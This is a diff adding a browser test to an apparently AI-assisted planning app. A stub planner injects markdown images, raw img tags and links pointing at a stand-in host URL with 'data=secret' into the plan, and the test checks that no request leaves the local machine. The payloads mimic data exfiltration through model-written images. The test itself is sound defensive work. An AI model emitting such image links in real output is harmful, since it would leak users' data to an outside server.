@@ -172,3 +172,44 @@ def test_scenarios_compare_two_operating_models(page, shots):
     assert re.search(r"A: hybrid · 1,200", text) and "B: centralized · 1,200" in text
     assert page.locator("#scenario-table tr.changed").count() >= 2
     page.screenshot(path=str(shots / "ui-scenarios.png"), full_page=True)
+
+
+LEAK = "http://198.51.100.7/leak.png?data=secret"  # TEST-NET-2: a host no test may reach
+
+
+class ImageWritingPlanner(OfflinePlanner):
+    """The offline planner, as if a model had written images and raw HTML into the plan."""
+
+    def team_plan(self, profile):
+        plan = super().team_plan(profile)
+        hostile = f"![chart]({LEAK}) <img src=\"{LEAK}&raw=1\"> [source]({LEAK}&link=1)"
+        kpis = [plan.kpis[0].model_copy(update={"name": hostile}), *plan.kpis[1:]]
+        return plan.model_copy(update={"summary": hostile, "kpis": kpis})
+
+
+def test_no_request_leaves_for_a_url_a_model_wrote(browser):
+    outside = []
+
+    def only_this_machine(route):
+        if route.request.url.startswith(("http://127.0.0.1", "ws://127.0.0.1", "data:", "blob:")):
+            return route.continue_()
+        outside.append(route.request.url)
+        return route.abort()
+
+    with running(ImageWritingPlanner()) as address:
+        context = browser.new_context(viewport={"width": 1500, "height": 1000})
+        context.route("**/*", only_this_machine)
+        page = context.new_page()
+        page.set_default_timeout(TIMEOUT)
+        page.goto(address, wait_until="domcontentloaded")
+        page.wait_for_selector("#chat-input textarea")
+        reply = send(page, "Fashion retailer, 300 employees, stores and e-commerce; the problem: silos.")
+        page.click("#text-tab-button")
+        page.wait_for_selector("#plan-text :text('leak.png')")
+        text = page.locator("#plan-text").inner_text()
+        page.wait_for_timeout(1000)
+        images = page.evaluate("[...document.images].map(i => i.src)")
+        context.close()
+    assert outside == [], outside
+    assert "![chart](" in reply and f"![chart]({LEAK})" in text and "<img src=" in text
+    assert not [src for src in images if "198.51.100.7" in src]
